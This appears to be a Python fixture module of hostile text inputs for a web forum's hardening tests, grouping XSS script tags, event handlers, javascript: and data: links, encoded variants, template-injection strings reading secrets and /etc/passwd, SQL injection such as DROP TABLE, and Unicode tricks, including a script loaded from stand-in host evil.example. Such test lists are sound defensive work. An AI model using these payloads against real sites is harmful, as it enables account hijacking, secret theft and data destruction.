"""Hostile text: what a forum or helpdesk gets typed into it sooner or later.

Every user-text field of every form receives each of these (tests/hardening/test_hostile_text.py).
Grouped by the bug each one has caught somewhere before; the count is asserted (>= 60).
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<script type=module>alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="#" onclick="alert(1)">点我</a>',
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>提交</button></form>",
    '<button formaction="javascript:alert(1)">x</button>',
]

LINKS = [
    # HTML form
    '<a href="javascript:alert(1)">链接</a>',
    '<a href="JaVaScRiPt:alert(1)">链接</a>',
    '<a href=" javascript:alert(1)">链接</a>',
    '<a href="java\tscript:alert(1)">链接</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
    '<a href="vbscript:msgbox(1)">链接</a>',
    # Markdown form
    "[点我](javascript:alert(1))",
    "[点我](JAVASCRIPT:alert(1))",
    "[点我](javascript&#58;alert(1))",
    "[点我](&#106;avascript:alert(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![图](javascript:alert(1))",
    '![图](x" onerror="alert(1))',
    "[点我](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[点我][ref]\n\n[ref]: javascript:alert(1)",
    "[多行\n链接](java\nscript:alert(1))",
    "[点我](\njavascript:alert(1)\n)",
    '[a](http://ok.example "title" onclick="alert(1)")',
    "[x](http://ok.example)<img src=x onerror=alert(1)>",
    "```\n</code><script>alert(1)</script>\n```",
    "> 引用 <img src=x onerror=alert(1)>",
]

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

TEMPLATE_SYNTAX = [
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{# comment #}",
    "${7*7}",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
]

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE members_user; --",
    '" OR ""="',
    "1; SELECT * FROM django_session --",
    "%' AND 1=1 --",
    "\\'; --",
]

UNICODE = [
    "\u202eevil.exe\u202c 李\u202e总",  # right-to-left override
    "王\u200b书\u200c记\u200d",  # zero-width space, non-joiner, joiner
    "\ufeff开头有 BOM",
    "\u2066隔离\u2069 \u200f右到左\u200e",
    "emoji 👍🏽🇨🇳 合字",
    "ｊａｖａｓｃｒｉｐｔ：ａｌｅｒｔ（１）",  # fullwidth
    "Ω≈ç√∫˜µ≤≥÷ 𝕏 \U0001f4a9",
    "行一\r\n行二\n\n行三\t制表",
    "空字节\x00之后",  # PostgreSQL refuses NUL in text: must be a form error, not a 500
    "\x1b[31m控制字符\x07\x08",
]

LONG = [
    "长" * 5000,
    "<b>" * 2000,
    "a" * 100_000,
]

PAYLOADS: list[str] = (
    SCRIPT_TAGS + EVENT_HANDLERS + LINKS + ENCODED + TEMPLATE_SYNTAX + SQL + UNICODE + LONG
)
